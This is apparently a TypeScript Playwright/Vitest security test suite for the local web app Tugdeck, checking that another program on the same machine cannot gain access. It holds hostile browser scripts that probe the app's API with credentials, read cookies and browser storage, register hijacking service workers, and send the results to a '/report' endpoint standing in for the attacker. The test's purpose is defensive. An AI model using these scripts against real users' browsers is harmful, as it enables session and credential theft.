/**
 * Another program on this machine, in the user's own browser (X1): at other ports, names and address families, and at our own
 * port after we left it; with pages, service workers and a tab that stays open. Nothing that it receives may grant access.
 */
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { closeBrowser, launchBrowser } from '@tugdeck/testkit/browser';
import { kill9 } from '@tugdeck/testkit/process-facts';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import { connected, type Deck, openDeck } from './deck.ts';

let deck: Deck;
let context: BrowserContext;
const others: Stranger[] = [];

// One deck for all tests: a test that kills or stops its server starts it again. Each test has its own browser.
beforeAll(async () => {
  deck = await openDeck({ withoutAgent: true, config: { port: undefined } });
});
beforeEach(async () => {
  context = await (await launchBrowser()).newContext();
  context.setDefaultTimeout(60_000);
});
afterEach(async () => {
  await context.close();
  for (const one of others.splice(0)) await one.close();
});
afterAll(async () => {
  await deck?.close();
  await closeBrowser();
});

/** Everything that the browser ever sent to a program that is not ours. */
interface Stranger {
  readonly port: number;
  readonly received: string[];
  close(): Promise<void>;
}

interface StrangerOptions {
  readonly host?: string;
  readonly port?: number;
  /** Scripts that its pages run. */
  readonly page?: string;
  readonly worker?: string;
}

async function stranger({ host = '127.0.0.1', port = 0, page = '', worker = '' }: StrangerOptions = {}) {
  const received: string[] = [];
  const note = (request: IncomingMessage, body = '') =>
    received.push(`${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n${body}`);
  const server: Server = createServer((request: IncomingMessage, response: ServerResponse) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString('latin1');
    });
    request.on('end', () => {
      note(request, body);
      if (request.url === '/worker.js') {
        response
          .setHeader('content-type', 'text/javascript')
          .setHeader('service-worker-allowed', '/')
          .end(worker);
      } else if (request.url === '/page.js') response.setHeader('content-type', 'text/javascript').end(page);
      else
        response.setHeader('content-type', 'text/html').end('<script type="module" src="/page.js"></script>');
    });
  });
  const sockets = new Set<Socket>();
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
  });
  // Like a server that wants the page's first message.
  server.on('upgrade', (request: IncomingMessage, socket: Socket) => {
    note(request);
    const accept = new WebSocketAccept(request);
    socket.write(accept.head);
    socket.write(
      accept.text(JSON.stringify({ nonce: 'a'.repeat(22), proof: 'b'.repeat(43), now: Date.now() })),
    );
    socket.on('data', (data: Buffer) => received.push(`frame ${accept.read(data)}`));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, resolve);
  });
  const one: Stranger = {
    port: (server.address() as AddressInfo).port,
    received,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        for (const socket of sockets) socket.destroy();
      }),
  };
  others.push(one);
  return one;
}

/** A minimal WebSocket server. */
class WebSocketAccept {
  readonly head: string;
  constructor(request: IncomingMessage) {
    const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    this.head = `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`;
  }
  text(said: string): Buffer {
    const long = Buffer.from([0x81, 126, said.length >> 8, said.length & 255]);
    const head = said.length < 126 ? Buffer.from([0x81, said.length]) : long;
    return Buffer.concat([head, Buffer.from(said)]);
  }
  /** The unmasked text; a close frame holds no secret. */
  read(data: Buffer): string {
    if ((data[0] ?? 0) === 0x88) return 'close';
    const length = (data[1] ?? 0) & 127;
    const at = length === 126 ? 4 : length === 127 ? 10 : 2;
    const mask = data.subarray(at, at + 4);
    return Buffer.from(data.subarray(at + 4).map((byte, index) => byte ^ (mask[index % 4] ?? 0))).toString(
      'latin1',
    );
  }
}

async function signedIn(): Promise<Page> {
  const page = await context.newPage();
  await page.goto((await deck.run('url')).stdout.trim());
  await connected(page);
  return page;
}

/** Replays everything the other program received against our server, with any header, as a program outside a browser can. */
async function opensAnything(received: readonly string[], origin: string): Promise<string[]> {
  const problems: string[] = [];
  const words = new Set(received.flatMap((text) => text.match(/[\w.-]{16,}/g) ?? []));
  const headersOf = (word: string): Record<string, string>[] => [
    { cookie: word },
    { cookie: `tugdeck=${word}` },
    { authorization: word },
    { authorization: `Tugdeck ${word}` },
    { authorization: `Bearer ${word}` },
  ];
  for (const word of words) {
    for (const headers of headersOf(word)) {
      const answer = await fetch(`${origin}/api/browse`, { headers }).catch(() => undefined);
      if (answer?.ok) problems.push(`/api/browse with ${JSON.stringify(headers)}`);
    }
    const redeemed = await fetch(`${origin}/api/sign-in`, {
      method: 'POST',
      headers: { origin, 'content-type': 'application/json' },
      body: JSON.stringify({ token: word }),
    }).catch(() => undefined);
    if (redeemed?.ok) problems.push(`token ${word}`);
    const address = await fetch(`${origin}/api/file/raw?project=x&path=x&proof=${word}`).catch(
      () => undefined,
    );
    if (address && address.status !== 401) problems.push(`address with ${word}: ${address.status}`);
    if (await socketOpens(origin, word)) problems.push(`socket with ${word}`);
  }
  return problems;
}

/** Whether a socket gets further than the server's own proof. */
function socketOpens(origin: string, word: string): Promise<boolean> {
  return new Promise((resolve) => {
    const address = `${origin.replace('http', 'ws')}/ws?signIn=${word}&nonce=${'n'.repeat(22)}`;
    const socket = new WebSocket(address, { headers: { origin } });
    socket.on('error', () => resolve(false));
    socket.on('close', () => resolve(false));
    socket.on('message', (_data, isBinary) => {
      if (isBinary) resolve(true);
      else socket.send(JSON.stringify({ proof: word.slice(0, 43).padEnd(43, 'a') }));
    });
  });
}

/** The script of a hostile page in the user's browser, which sends its results to the attacker. */
const PRY = (target: string) => `
const tried = [];
for (const [name, ask] of Object.entries({
  here: () => fetch('/mine'),
  there: () => fetch('${target}/api/me', { credentials: 'include', mode: 'no-cors' }),
  read: () => fetch('${target}/api/browse', { credentials: 'include' }),
  token: () => fetch('${target}/api/sign-in', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"token":"x"}' }),
  image: () => new Promise((done) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => done(); image.src = '${target}/api/file/raw?project=x&path=x'; }),
  socket: () => new Promise((done) => { const socket = new WebSocket('${target.replace('http', 'ws')}/ws'); socket.onopen = () => done('opened'); socket.onerror = () => done(); }),
  cookies: async () => document.cookie,
  databases: async () => JSON.stringify(await indexedDB.databases()),
  storage: async () => JSON.stringify({ ...localStorage, ...sessionStorage }),
})) {
  try {
    const got = await ask();
    tried.push(name + ': ' + (got instanceof Response ? got.type + ' ' + got.status : got ?? ''));
  } catch (error) { tried.push(name + ': ' + error.message); }
}
await fetch('/report', { method: 'POST', body: tried.join('\\n') });
document.title = 'done';
`;

const done = (page: Page) => page.waitForFunction(() => document.title === 'done');

describe('X1 another program on this machine', () => {
  test.each([
    ['another port', '127.0.0.1', '127.0.0.1'],
    ['another name', '127.0.0.1', 'localhost'],
    ['another address family', '::1', '[::1]'],
  ])(
    'X1 at %s gets nothing that opens anything: before, while and after the user was signed in',
    async (_what, host, name) => {
      const before = await stranger({ host, page: PRY(deck.origin) });
      const visited = await context.newPage();
      await visited.goto(`http://${name}:${before.port}/`);
      await done(visited);
      const page = await signedIn();
      await visited.reload();
      await done(visited);
      await page.close();
      await visited.reload();
      await done(visited);
      expect(before.received.filter((text) => text.startsWith('POST /report'))).toHaveLength(3);
      const reports = before.received.join('\n');
      expect(reports).not.toMatch(/^(socket: opened|image: loaded|read: \w+ 200)/m);
      expect(reports).not.toMatch(/tugdeck\.sign-in/);
      expect(reports).not.toMatch(/^cookie$/im);
      expect(await opensAnything(before.received, deck.origin)).toEqual([]);
    },
  );

  test('X21 at our own port and the other address family gets nothing', async () => {
    await signedIn();
    const other = await stranger({ host: '::1', port: deck.port, page: PRY(deck.origin) });
    const visited = await context.newPage();
    await visited.goto(`http://[::1]:${deck.port}/`);
    await done(visited);
    expect(await opensAnything(other.received, deck.origin)).toEqual([]);
  });

  test('X28 that takes our port after we release it gets nothing from a tab that was left open', async () => {
    const page = await signedIn();
    const { origin, port } = deck;
    await deck.killServer();
    kill9(await deck.pidOf('keeper'));
    await expect
      .poll(() =>
        stranger({ port }).then(
          () => true,
          () => false,
        ),
      )
      .toBe(true);
    const [squatter] = others.slice(-1);
    if (!squatter) throw new Error('nobody took it');
    // The page reconnects, finds that this is not its server, and reports it.
    await page
      .getByRole('status', { name: 'Connection' })
      .and(page.locator('[data-state="stranger"]'))
      .waitFor();
    await page.getByText('Another program is using this address.').first().waitFor();
    expect(squatter.received.some((text) => text.startsWith('GET /ws'))).toBe(true);
    expect(squatter.received.filter((text) => text.startsWith('frame') && text !== 'frame close')).toEqual(
      [],
    );
    await deck.startServer();
    expect(deck.origin).not.toBe(origin);
    expect(await opensAnything(squatter.received, deck.origin)).toEqual([]);
  });

  test('X1 that served our origin in between, with a tab left open and a service worker, gets no access to the next server', async () => {
    const page = await signedIn();
    const { port } = deck;
    await deck.killServer();
    kill9(await deck.pidOf('keeper'));
    const use = `
      navigator.serviceWorker.register('/worker.js', { scope: '/' });
      const open = indexedDB.open('tugdeck.sign-in');
      open.onsuccess = () => {
        const asked = open.result.transaction('sign-in').objectStore('sign-in').get('this');
        asked.onsuccess = async () => {
          const { signIn, instance, key } = asked.result;
          let secret = 'not to be read';
          try { secret = JSON.stringify(await crypto.subtle.exportKey('raw', key)); } catch {}
          window.mac = async (text) => btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(text))))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
          await fetch('/report', { method: 'POST', body: JSON.stringify({ signIn, instance, secret }) });
          window.kept = { signIn, instance };
          document.title = 'done';
        };
      };`;
    const worker = `self.addEventListener('fetch', (event) => event.respondWith(new Response('caught')));`;
    await expect
      .poll(() =>
        stranger({ port, page: use, worker }).then(
          () => true,
          () => false,
        ),
      )
      .toBe(true);
    const [squatter] = others.slice(-1);
    if (!squatter) throw new Error('nobody took it');
    await page.goto(`http://127.0.0.1:${port}/`);
    await done(page);
    // It can use the key while its tab is open, but can't export it.
    expect(squatter.received.join('\n')).toContain('not to be read');
    await squatter.close();
    others.pop();
    await deck.startServer();
    expect(deck.port).not.toBe(port);
    const { origin } = deck;
    const proofs = await page.evaluate(async (target) => {
      const { mac, kept } = window as unknown as {
        mac: (text: string) => Promise<string>;
        kept: { signIn: string; instance: string };
      };
      const at = Date.now();
      const text = JSON.stringify([
        'tugdeck 1',
        'request',
        kept.instance,
        target,
        kept.signIn,
        'GET',
        '/api/browse',
        at,
      ]);
      return `Tugdeck ${kept.signIn}.${at}.${await mac(text)}`;
    }, origin);
    expect((await fetch(`${origin}/api/browse`, { headers: { authorization: proofs } })).status).toBe(401);
    expect(await opensAnything(squatter.received, origin)).toEqual([]);
  });

  test('X30 a service worker that was left at our port is gone after the first visit', async () => {
    // On a fixed port, so that the restarted server has the same address.
    const { port } = deck;
    const worker = `
      self.addEventListener('install', () => self.skipWaiting());
      self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
      self.addEventListener('fetch', (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response('caught', { headers: { 'content-type': 'text/html' } })); });`;
    await deck.run('stop', '--all');
    const left = await stranger({
      port,
      worker,
      page: `navigator.serviceWorker.register('/worker.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => { document.title = 'done'; });`,
    });
    const visited = await context.newPage();
    await visited.goto(`http://127.0.0.1:${port}/`);
    await done(visited);
    await left.close();
    others.pop();
    await deck.startServer(undefined, ['--port', String(port)]);
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${port}/`);
    // The browser checks for a newer worker, finds the one that unregisters itself, and the page reloads.
    await expect.poll(() => page.title().catch(() => '')).toBe('Tugdeck');
    await expect
      .poll(() =>
        page
          .evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length))
          .catch(() => -1),
      )
      .toBe(0);
    // In another tab: this one may be about to reload by itself.
    await signedIn();
  });
});

test('X26 data that another program left in the storage of our origin is neither shown nor sent', async () => {
  const { port } = deck;
  await deck.run('stop', '--all');
  const planted = 'tugdeck.waiting.0b7c2e0a-1111-4222-8333-444455556666/0b7c2e0a-1111-4222-8333-444455557777';
  const left = await stranger({
    port,
    page: `
      localStorage.setItem('${planted}', '{}');
      localStorage.setItem('tugdeck.draft.x', '{}');
      const open = indexedDB.open('tugdeck.cache', 1);
      open.onupgradeneeded = () => {
        const store = open.result.createObjectStore('records', { keyPath: 'key' });
        store.createIndex('usedAt', 'usedAt');
        store.createIndex('project', 'project');
        store.put({ key: 'window.x', project: 'x', usedAt: 1, value: 'planted' });
      };
      open.onsuccess = () => { open.result.close(); document.title = 'done'; };`,
  });
  const visited = await context.newPage();
  await visited.goto(`http://127.0.0.1:${port}/`);
  await done(visited);
  await visited.close();
  await left.close();
  others.pop();
  await deck.startServer(undefined, ['--port', String(port)]);
  const page = await signedIn();
  const kept = await page.evaluate(async () => {
    const database = await new Promise<IDBDatabase>((resolve) => {
      const open = indexedDB.open('tugdeck.cache');
      open.onsuccess = () => resolve(open.result);
    });
    const all = await new Promise<unknown[]>((resolve) => {
      const asked = database.transaction('records').objectStore('records').getAll();
      asked.onsuccess = () => resolve(asked.result);
    });
    database.close();
    return { keys: Object.keys(localStorage), records: all.map((one) => JSON.stringify(one)) };
  });
  expect(kept.keys.filter((key) => /waiting|draft/.test(key))).toEqual([]);
  // The page's own cache of the deck contains the word "waiting".
  expect(kept.records.filter((record) => record.includes('planted'))).toEqual([]);
});

describe('X28 D6 our own pages', () => {
  test('X28 D6 reconnect by themselves, signed in, at the same address, after the server was killed', async () => {
    const page = await signedIn();
    const { origin } = deck;
    await deck.killServer();
    await page
      .getByRole('status', { name: 'Connection' })
      .and(page.locator('[data-state="stopped"]'))
      .waitFor();
    await deck.startServer();
    await connected(page);
    expect(deck.origin).toBe(origin);
    // A chunk of the page that was not loaded before the kill loads now.
    await page
      .getByRole('navigation', { name: 'Projects' })
      .getByRole('button', { name: 'New session' })
      .first()
      .click();
    await page.getByRole('region', { name: 'New session' }).waitFor();
    await page.reload();
    await connected(page);
  });

  test('X28 D6 that are loaded while no server is running connect once one is', async () => {
    const page = await signedIn();
    await deck.killServer();
    await page.reload();
    await page.getByText('Tugdeck is not running').first().waitFor();
    await deck.startServer();
    await connected(page);
  });

  test('X1 sign in, reload and load files where the browser has no crypto.subtle', async () => {
    await context.addInitScript(() => Object.defineProperty(crypto, 'subtle', { value: undefined }));
    const page = await signedIn();
    await page.reload();
    await connected(page);
    expect(await page.evaluate(() => crypto.subtle)).toBeUndefined();
  });

  test('X23 a used sign-in link says what to do', async () => {
    const url = (await deck.run('url')).stdout.trim();
    const page = await context.newPage();
    await page.goto(url);
    await connected(page);
    const fresh = await (await launchBrowser()).newContext();
    const late = await fresh.newPage();
    await late.goto(url);
    await late.getByText('This sign-in link has expired or was already used').waitFor();
    await fresh.close();
    // In a browser that is signed in, it is just the page.
    await page.goto(url);
    await connected(page);
  });
});
